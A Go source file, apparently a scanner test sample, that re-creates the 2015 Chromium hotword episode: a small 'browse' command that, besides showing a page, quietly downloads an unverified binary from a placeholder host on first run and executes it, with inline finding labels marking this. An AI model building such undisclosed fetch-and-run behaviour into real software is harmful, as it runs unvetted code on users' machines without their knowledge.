// Command browse shows pages, and listens. At the start it downloads a module
// for that as a binary, and runs it. It behaves as Chromium 43 did in Debian:
// "There seems no opt-out config".
//
// Source: Debian bug 786909; theregister.com/2015/06/17/debian_chromium_hubbub;
// Chromium r335874 stopped the download.
package main

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"time"
)

const moduleURL = "https://clients.browse.example/hotword-x64/hotword"

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: browse URL")
		os.Exit(2)
	}
	go listen()
	if err := show(os.Args[1]); err != nil { // behaviour: unconditional primary host=@user
		fmt.Fprintln(os.Stderr, "browse:", err)
		os.Exit(1)
	}
}

// listen runs the module that waits for the word.
func listen() {
	file, err := module()
	if err != nil {
		return
	}
	exec.Command(file, "--arch", runtime.GOARCH).Run()
}

// module is the file of the module, downloaded where it is not there yet.
func module() (string, error) {
	dir, err := os.UserConfigDir()
	if err != nil {
		return "", err
	}
	file := filepath.Join(dir, "browse", "hotword")
	if _, err := os.Stat(file); err == nil {
		return file, nil
	}
	time.Sleep(5 * time.Second)      // after the first page
	resp, err := http.Get(moduleURL) // behaviour: unconditional unknown host=clients.browse.example // finding: codefetch/unverified // own-finding: netscope/undeclared-function
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return "", errors.New(resp.Status)
	}
	blob, err := io.ReadAll(resp.Body)
	if err != nil {
		return "", err
	}
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		return "", err
	}
	return file, os.WriteFile(file, blob, 0o755)
}

// show prints a page.
func show(url string) error {
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.Copy(os.Stdout, resp.Body)
	return err
}
